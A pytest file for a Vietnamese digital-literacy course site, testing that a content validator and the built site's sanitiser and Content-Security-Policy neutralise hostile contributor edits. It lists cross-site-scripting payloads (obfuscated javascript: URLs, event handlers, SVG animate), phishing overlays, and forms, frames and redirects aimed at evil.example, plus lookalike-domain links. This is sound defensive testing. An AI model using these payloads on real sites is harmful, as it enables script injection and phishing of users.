"""A hostile pull request, field by field: every payload is refused with file and line, or published inert.

Table-driven: every text field a contributor can write × every payload class found when this project was
attacked on purpose (script tags, handlers, attribute lists, comment-split tags, character-reference and
tab-split javascript: URLs, SVG animation, page-covering styles, forms, frames, refresh redirects,
attribute break-outs, direction-changing characters). For each case the validator must exit with an error
naming the edited file and a line, or, where it accepts the text (a plain-text field holding a quote, say),
the built site must show it as text and pass the published-output gate. A last test builds one site from
every payload at once with the validator bypassed, and clicks, hovers and focuses everything in Chromium:
the second wall (sanitiser, escaping, Content-Security-Policy) must hold on its own.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hocvuso.gate import check_site
from hocvuso.validate import Validation, validate
from tests.conftest import FIXTURE, ROOT
from tests.sitebuild import mkdocs_build, write_config

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg/onload=alert(1)>",
    "comment-split": "<scr<!-- -->ipt>alert(1)</script>",
    "quoted-gt": '<img src="x>" onerror=alert(1)>',
    "md-js-link": "[click](javascript:alert(1))",
    "entity-js": '<a href="&#106;avascript:alert(1)">click</a>',
    "colon-entity": '<a href="javascript&colon;alert(1)">click</a>',
    "tab-js": '<a href="java&#x09;script:alert(1)">click</a>',
    "attr-list": "Read this first.\n{: autofocus onfocus=alert(1) }",
    "attr-href": "[click](https://example.org){: href=javascript:alert(1) }",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "style-element": "<style>body{display:none}</style>",
    "overlay": '<div style="position:fixed;inset:0;background:#fff">Locked: call 0900 and read us your OTP</div>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "form": '<form action="https://evil.example/"><input name=otp><button>OK</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "attr-breakout": '" onmouseover="alert(1)" x="',
    "bidi": "vcb\u202env.moc.kcabnkv\u202c",
}
MARKDOWN_ONLY = {"md-js-link", "attr-list", "attr-href"}
"""Payloads that only mean something in Markdown; in a plain-text field they are harmless words."""

L1 = "curriculum/lessons/hello-phone"
L2 = "curriculum/lessons/safe-pay"


def _yaml(value: str) -> str:
    return json.dumps(value)  # a JSON string is a YAML double-quoted scalar (escapes included)


def _replace(rel: str, old: str, new: Callable[[str], str]) -> Callable[[Path, str], str]:
    def edit(project: Path, payload: str) -> str:
        path = project / rel
        text = path.read_text("utf-8")
        assert text.count(old) == 1, (rel, old)
        path.write_text(text.replace(old, new(payload)), "utf-8")
        return rel
    return edit


BODY_FIELDS: dict[str, Callable[[Path, str], str]] = {
    "body": _replace(f"{L2}/en.md", "## Safety notes\n", lambda p: f"## Safety notes\n\n{p}\n\n"),
    "body-admonition": _replace(f"{L2}/en.md", "## Safety notes\n",
                                lambda p: "## Safety notes\n\n!!! note\n\n" + "".join(f"    {line}\n"
                                                                                    for line in p.split("\n"))),
    "body-heading": _replace(f"{L2}/en.md", "## Safety notes\n",
                             lambda p: "## " + p.replace("\n", " ") + "\n\n## Safety notes\n"),
    "body-list-item": _replace(f"{L2}/en.md", "2. Type the OTP code yourself.\n",
                               lambda p: "2. Type the OTP code yourself.\n\n" + "".join(f"    {line}\n"
                                                                                     for line in p.split("\n"))),
}
TEXT_FIELDS: dict[str, Callable[[Path, str], str]] = {
    "lesson-title": _replace(f"{L2}/en.md", "title: Paying safely", lambda p: f"title: {_yaml(p)}"),
    "lesson-summary": _replace(f"{L2}/en.md", "summary: Pay on your phone without being tricked.\n",
                               lambda p: f"summary: {_yaml(p)}\n"),
    "objective": _replace(f"{L2}/en.md", "[Never give your OTP code to anyone.]", lambda p: f"[{_yaml(p)}]"),
    "quiz-prompt": _replace(f"{L1}/quiz.en.yml", "prompt: How do you switch on the phone?",
                            lambda p: f"prompt: {_yaml(p)}"),
    "quiz-feedback": _replace(f"{L1}/quiz.en.yml", "feedback: Right.}", lambda p: f"feedback: {_yaml(p)}}}"),
    "quiz-explanation": _replace(f"{L1}/quiz.en.yml", "explanation: A screen lock protects the phone if it is lost.",
                                 lambda p: f"explanation: {_yaml(p)}"),
    "glossary-definition": _replace("curriculum/glossary/en.yml",
                                    "definition: A one-time code that confirms a transaction.",
                                    lambda p: f"definition: {_yaml(p)}"),
    "course-title": _replace("curriculum/courses/basics.yml", "en: Basics}", lambda p: f"en: {_yaml(p)}}}"),
    "course-description": _replace("curriculum/courses/basics.yml", "en: Start here.}", lambda p: f"en: {_yaml(p)}}}"),
    "audience-name": _replace("curriculum/audiences.yml", "en: Citizens}", lambda p: f"en: {_yaml(p)}}}"),
    "source-title": _replace(f"{L2}/lesson.yml", "title: Example source", lambda p: f"title: {_yaml(p)}"),
    "framework-name": _replace("curriculum/framework.yml", "en: Devices}", lambda p: f"en: {_yaml(p)}}}"),
}
URL_PAYLOADS = {
    "source-url-breakout": 'https://a.vn/" onmouseover="alert(1)',
    "source-url-js": "javascript:alert(1)",
    "source-url-space": "https://a.vn/ onmouseover=alert(1)",
}
SOURCE_URL = _replace(f"{L2}/lesson.yml", "url: https://example.org/source}", lambda p: f"url: {_yaml(p)}}}")

CASES: list[tuple[str, str, str]] = (
    [(field, name, text) for field in BODY_FIELDS for name, text in PAYLOADS.items()]
    + [(field, name, text) for field in TEXT_FIELDS for name, text in PAYLOADS.items() if name not in MARKDOWN_ONLY]
    + [("source-url", name, text) for name, text in URL_PAYLOADS.items()]
)
SAFETY_RULES = {"unsafe-html", "unsafe-url", "external-resource", "html-in-text", "hidden-character", "schema"}


def html_text(html: str) -> str:
    """The text a reader sees (tags dropped, references decoded)."""
    import html as html_module

    return html_module.unescape(re.sub(r"<[^>]+>", " ", html))


def _edit(field: str) -> Callable[[Path, str], str]:
    return BODY_FIELDS.get(field) or TEXT_FIELDS.get(field) or SOURCE_URL


def _project(tmp: Path) -> Path:
    project = tmp / "project"
    shutil.copytree(FIXTURE, project)
    return project


def test_there_are_enough_cases() -> None:
    assert len(CASES) >= 60


@pytest.mark.parametrize(("field", "name", "payload"), CASES, ids=[f"{f}-{n}" for f, n, _ in CASES])
def test_hostile_text_is_refused_with_file_and_line_or_shown_as_text(
        tmp_path: Path, field: str, name: str, payload: str) -> None:
    project = _project(tmp_path)
    rel = _edit(field)(project, payload)
    result = validate(project)
    errors = [d for d in result.diagnostics if d.severity == "error"]
    if errors:
        assert any(d.path == rel and d.line >= 1 and d.rule in SAFETY_RULES for d in errors), \
            [d.as_text() for d in errors]
        return
    # Accepted: only harmless text may be, and then it must be shown exactly as written.
    assert "<" not in payload and "javascript:" not in payload, f"{field} accepted {payload!r}"
    built = mkdocs_build(project)
    assert built.returncode == 0, built.stderr[-2000:]
    assert check_site(project / "site") == []  # no handler attribute, script or address came out of it
    page = (project / "site/en/learn/lessons/safe-pay/index.html").read_text("utf-8")
    if field in ("body", "body-list-item", "body-heading", "lesson-title", "objective"):
        assert payload.strip() in html_text(page)  # shown to the reader exactly as written


def test_the_command_line_exits_1_naming_the_file(tmp_path: Path) -> None:
    project = _project(tmp_path)
    rel = BODY_FIELDS["body-admonition"](project, PAYLOADS["svg-onload"])
    run = subprocess.run([sys.executable, str(ROOT / "scripts/validate.py"), "--root", str(project), "--lang", "en"],
                         capture_output=True, text=True, timeout=60)
    assert run.returncode == 1
    assert re.search(rf"^{re.escape(rel)}:\d+:\d+: error \[unsafe-html\] <svg>", run.stdout, re.MULTILINE), run.stdout
    assert "Traceback" not in run.stdout + run.stderr


def _everything(project: Path) -> None:
    """One project holding every payload in every field it fits."""
    all_text = " ".join(text for name, text in PAYLOADS.items() if name not in MARKDOWN_ONLY)
    all_markdown = "\n\n".join(PAYLOADS.values())
    BODY_FIELDS["body"](project, all_markdown)
    BODY_FIELDS["body-list-item"](project, all_markdown)
    BODY_FIELDS["body-heading"](project, all_text)
    for field in sorted(TEXT_FIELDS, key=lambda f: f != "lesson-summary"):  # the summary edit needs the title
        TEXT_FIELDS[field](project, all_text)
    SOURCE_URL(project, URL_PAYLOADS["source-url-breakout"])


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every payload built into a site with the validator bypassed: what the second wall alone publishes."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    project = _project(tmp_path_factory.mktemp("hostile"))
    _everything(project)
    assert not validate(project).ok  # the first wall would have refused all of it
    config_file = write_config(project)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Validation, "ok", property(lambda self: True))
        config = load_config(str(config_file))
        config.plugins.on_startup(command="build", dirty=False)
        try:
            build(config)
        finally:
            config.plugins.on_shutdown()
    return project / "site"


def test_the_second_wall_alone_publishes_nothing_the_gate_refuses(hostile_site: Path) -> None:
    assert (hostile_site / "en/learn/lessons/safe-pay/index.html").is_file()
    assert check_site(hostile_site) == []


@pytest.mark.browser
def test_no_payload_runs_on_load_focus_hover_or_click(hostile_site: Path, browser: Any) -> None:
    from tests.browser import serve

    pages = ["en/learn/lessons/safe-pay/", "en/learn/lessons/hello-phone/", "en/learn/glossary/", "en/",
             "en/learn/courses/basics/", "en/learn/audiences/citizens/", "en/learn/skills/", "learn/lessons/safe-pay/"]
    with serve(hostile_site) as url:
        context = browser.new_context()
        page = context.new_page()
        dialogs: list[str] = []

        def on_dialog(dialog: Any) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", on_dialog)
        # Counts what the Content-Security-Policy had to block: nothing should even try to run.
        page.add_init_script("window.__blocked = []; document.addEventListener('securitypolicyviolation',"
                             " e => window.__blocked.push(e.violatedDirective + ' ' + e.blockedURI));")
        for path in pages:
            page.goto(url + path)
            page.wait_for_load_state("load")
            assert page.evaluate("document.querySelectorAll('iframe, object, embed, form[action^=\"http\"], "
                                 "body style').length") == 0
            # The one <style> is the build's critical CSS in <head>, allowed by its hash in the policy.
            assert page.evaluate("document.querySelectorAll('head style').length") <= 1
            # Every element hovered, focused and clicked (links and buttons excepted: they leave or submit)...
            page.evaluate("""() => { for (const el of document.body.querySelectorAll('*')) {
                if (el.closest('a, button, summary, label, input, select')) continue;
                for (const type of ['mouseover', 'mouseenter', 'focus', 'focusin', 'click', 'animationstart'])
                  el.dispatchEvent(new Event(type, {bubbles: true}));
                if (el.focus) el.focus(); } }""")
            # ...and a real pointer swept over the page, and the keyboard through its first controls.
            for y in range(0, 2000, 80):
                for x in range(10, 1200, 120):
                    page.mouse.move(x, y)
            for _ in range(30):
                page.keyboard.press("Tab")
            for link in page.locator("a[href]").all()[:80]:
                href = link.get_attribute("href") or ""
                assert not href.strip().lower().startswith(("javascript", "data", "vbscript", "file")), href
            assert page.url.startswith(url), page.url  # no redirect away
            assert page.evaluate("window.__blocked") == [], path
        context.close()
    assert dialogs == []


def test_serve_keeps_a_rejected_edit_rejected_whatever_else_is_saved(tmp_path: Path) -> None:
    """`mkdocs serve` re-runs on_config on every save: once a lesson is refused, the preview keeps the last good
    curriculum (with the errors on every page), and an unrelated save (a docs page) must not adopt the refused
    content either."""
    from mkdocs.config import load_config

    from hocvuso.mkdocs_plugin import CurriculumPlugin

    project = _project(tmp_path)
    config = load_config(str(write_config(project)))
    plugin = config.plugins["hocvuso"]
    assert isinstance(plugin, CurriculumPlugin)
    plugin.on_startup(command="serve", dirty=False)
    plugin.on_config(config)  # the fixture is valid
    BODY_FIELDS["body"](project, PAYLOADS["script"])
    for _ in range(2):  # the editor's save, then an unrelated one
        plugin.on_config(config)
        assert any(d.rule == "unsafe-html" and d.path.endswith("safe-pay/en.md") for d in plugin.shown_errors)
        assert plugin.result is not None
        kept = plugin.result.loaded.curriculum.lesson("safe-pay")
        assert kept is not None
        published = kept.texts["en"].body
        assert "<script>" not in published  # what the preview renders is still the last good text
        (project / "docs/index.vi.md").write_text((project / "docs/index.vi.md").read_text("utf-8") + "\n", "utf-8")
    (project / "curriculum/lessons/safe-pay/en.md").write_text(
        (FIXTURE / "curriculum/lessons/safe-pay/en.md").read_text("utf-8"), "utf-8")
    plugin.on_config(config)  # fixed: the errors are gone
    assert plugin.shown_errors == []


@pytest.mark.parametrize(("text", "target", "shown"), [
    ("dichvucong.gov.vn", "https://dichvucong-gov.vn.example.com/", "dichvucong.gov.vn"),
    ("Vào vneid.gov.vn để kiểm tra", "https://vneid.gov.vn.tk/", "vneid.gov.vn"),
    ("www.vneid.gov.vn", "https://vneid.gov.vn/x", None),
    ("gov.vn", "https://dichvucong.gov.vn/", None),
    ("Cổng Dịch vụ công quốc gia", "https://example.org/", None),
    ("mau-don.pdf", "https://dichvucong.gov.vn/mau-don.pdf", None),
    ("dichvucong.gov.vn", "../other-lesson/", None),
])
def test_a_link_that_shows_one_address_and_opens_another_is_caught(text: str, target: str, shown: str | None) -> None:
    from hocvuso.checks.safety import shown_host_mismatch

    assert shown_host_mismatch(text, target) == shown
